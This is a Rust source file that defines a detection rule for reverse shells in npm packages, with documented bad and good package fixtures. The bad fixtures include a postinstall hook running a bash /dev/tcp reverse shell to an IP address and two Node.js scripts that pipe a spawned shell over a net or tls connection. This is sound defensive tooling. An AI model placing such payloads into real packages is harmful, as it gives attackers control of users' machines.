//! # A shell is given to another machine
//!
//! A command or code joins a shell to a connection to another host.
//!
//! ## Why it matters
//!
//! Whoever is at the other end does what the user may do.
//!
//! ## Known benign uses
//!
//! Remote terminals do so on command, as servers, and behind a login.
//!
//! ## Bad
//!
//! ```package
//! == package.json //~ 1
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"}}
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const net = require("net"), { spawn } = require("child_process");
//! const shell = spawn("/bin/sh", []); //~ here
//! const client = net.connect(4444, "shell.invalid", () => {
//!   client.pipe(shell.stdin);
//!   shell.stdout.pipe(client);
//! });
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const tls = require("tls"), cp = require("child_process");
//! const line = tls.connect(443, "shell.invalid", () => {
//!   cp.spawn(process.platform === "win32" ? "cmd.exe" : "bash", { stdio: [line, line, line] }); //~ here
//! });
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const net = require("net"), { spawn } = require("child_process");
//! exports.forward = (host, port) => net.connect(port, host);
//! exports.run = (line) => spawn("/bin/sh", ["-c", line], { stdio: "inherit" });
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "bin": {"x": "cli.js"}}
//! == cli.js
//! #!/usr/bin/env node
//! require("child_process").spawn(process.env.SHELL || "/bin/sh", [], { stdio: "inherit" });
//! ```
//!
//! ## References
//!
//! - ReversingLabs: ethers-provider2 (March 2025)

use crate::prelude::*;

/// A shell is given to another machine.
pub struct ReverseShellOpened;

impl Rule for ReverseShellOpened {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "reverse-shell-opened",
            title: "A shell is given to another machine",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1059",
            covers: &["impact-remote-shell"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        for command in facts.commands().iter().filter(|command| command.trigger != Trigger::Dormant) {
            if command.behaviours.contains(&BehaviourKind::ReverseShell) {
                found.at(command.trigger, &command.locus, "gives a shell to another machine");
            }
        }
        let sockets = ["net.connect", "net.createConnection", "net.Socket.connect", "tls.connect"];
        let shells = ["child_process.spawn", "child_process.exec", "child_process.execFile"];
        for shell in facts.calls(&shells).filter(|call| call.trigger.runs_unasked() && is_bare_shell(call)) {
            if facts
                .calls(&sockets)
                .any(|socket| socket.trigger.runs_unasked() && socket.spot.script == shell.spot.script)
            {
                found.call(shell, "starts a shell beside a connection to another machine");
            }
        }
    }
}

/// A shell without a command: it takes what comes in.
fn is_bare_shell(call: &CallFact) -> bool {
    const SHELLS: &[&str] = &["sh", "bash", "zsh", "cmd", "cmd.exe", "powershell", "powershell.exe", "pwsh"];
    let programs = call.arguments.first().map(|argument| argument.texts.as_slice()).unwrap_or_default();
    let is_shell = |text: &str| text.rsplit(['/', '\\']).next().is_some_and(|name| SHELLS.contains(&name));
    let gives_command = |text: &str| matches!(text, "-c" | "/c" | "/C" | "-Command" | "-command" | "/d");
    let arguments = call.arguments.get(1).map(|argument| argument.texts.as_slice()).unwrap_or_default();
    programs.iter().any(|text| is_shell(text)) && !arguments.iter().any(|text| gives_command(text))
}
